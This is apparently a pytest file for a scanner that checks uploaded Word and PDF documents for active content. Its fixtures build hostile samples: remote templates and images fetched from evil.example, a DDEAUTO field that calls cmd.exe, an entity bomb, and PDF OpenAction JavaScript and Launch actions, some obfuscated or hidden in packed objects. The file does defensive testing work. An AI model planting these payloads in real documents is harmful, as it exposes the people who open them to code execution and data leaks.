"""Documents that people upload for review: what would run or fetch something where it is opened (S2, T31, T35)."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from formengine.content_type import DOCX, PDF
from formengine.documents.document_safety import HAZARDS, Findings, look_at, sandboxed_task
from tests.documents.conftest import changed, word

RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return changed(word("A contract."), {RELS: lambda old: old.replace(b"</Relationships>", relation.encode())})


def with_field(instruction: str) -> bytes:
    field = f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p><w:sectPr'
    return changed(word("A."), {"word/document.xml": lambda old: old.replace(b"<w:sectPr", field.encode(), 1)})


def entity_bomb() -> bytes:
    doctype = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document'
    return changed(word("A."), {"word/document.xml": lambda old: old.replace(b"<w:document", doctype, 1)})


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed(objects: bytes) -> bytes:
    stream = zlib.compress(objects)
    head = (
        b"/Pages 2 0 R >>\nendobj\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
    )
    return pdf(head % len(stream) + stream + b"\nendstream")


WORD = {
    "macros": changed(word("A."), {"word/vbaProject.bin": b"x"}),
    "template": related("attachedTemplate", "https://evil.example/t.dotm"),
    "template on a share": related("attachedTemplate", r"\\evil\t.dotm"),
    "object": changed(word("A."), {"word/embeddings/oleObject1.bin": b"x"}),
    "control": changed(word("A."), {"word/activeX/activeX1.xml": b"<x/>"}),
    "merged": related("aFChunk", "part.htm", "Internal"),
    "link": related("image", "http://evil.example/pixel.png"),
    "field": with_field(r"DDEAUTO c:\\cmd.exe"),
    "field that fetches": with_field("INCLUDEPICTURE http://evil.example/p.png"),
    "damaged": entity_bomb(),
    "damaged zip": b"PK\x03\x04 nothing",
    "damaged bomb": changed(word("A."), {"word/media/zeros.bin": b"\0" * 40_000_000}),
}
PDFS = {
    "script": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "script with an escaped name": pdf(b"/OpenAction << /S /J#61vaScript >>"),
    "script in a packed object": packed(b"5 0 << /S /JavaScript /JS (x) >>"),
    "launch": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "attachment": pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
    "encrypted": pdf(b"") + b"trailer << /Encrypt 9 0 R >>",
}


@pytest.mark.parametrize("name", WORD)
def test_what_a_word_document_carries_is_found(name: str) -> None:
    """S2, T31: by what it holds, whatever its name."""
    assert sandboxed_task({"type": DOCX}, WORD[name]).decode().split()[0] == name.split()[0]


@pytest.mark.parametrize("name", PDFS)
def test_what_a_pdf_carries_is_found(name: str) -> None:
    """S2, T31: also in packed objects, and under escaped names."""
    assert sandboxed_task({"type": PDF}, PDFS[name]).decode().split()[0] == name.split()[0]


def test_what_real_contracts_carry_is_fine() -> None:
    """S2: links to follow, a template on the author's own disk, page numbers, prompts; words of a page are no names."""
    for harmless in (
        word("A contract."),
        related("hyperlink", "https://example.com"),
        related("attachedTemplate", "file:///C:/Users/ana/Normal.dotm"),
        with_field("PAGE"),
        with_field("MACROBUTTON NoMacro [Name]"),
    ):
        assert sandboxed_task({"type": DOCX}, harmless) == b"none 0"
    page = b"/Pages 2 0 R >>\nendobj\n4 0 obj\n<< /Length 30 >>\nstream\n(/JavaScript /Launch) Tj\nendstream"
    assert sandboxed_task({"type": PDF}, pdf(page)) == b"none 0"


def test_it_runs_in_the_sandbox_within_bounds() -> None:
    """T35: a PDF whose packed objects never end is ended."""
    assert look_at(word("A contract."), DOCX) == Findings()
    assert look_at(PDFS["script"], PDF) == Findings("script")
    assert look_at(packed(b"\0" * 80_000_000), PDF) == Findings("heavy")
    assert {*(name.split()[0] for name in (*WORD, *PDFS)), "heavy"} == set(HAZARDS)


def test_a_container_with_a_password_says_so() -> None:
    """S2: as tools for ZIP files protect it."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
    data = bytearray(content.getvalue())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.index(mark) + (6 if mark == b"PK\x03\x04" else 8)
        data[at] |= 1
    assert sandboxed_task({"type": DOCX}, bytes(data)) == b"encrypted 0"
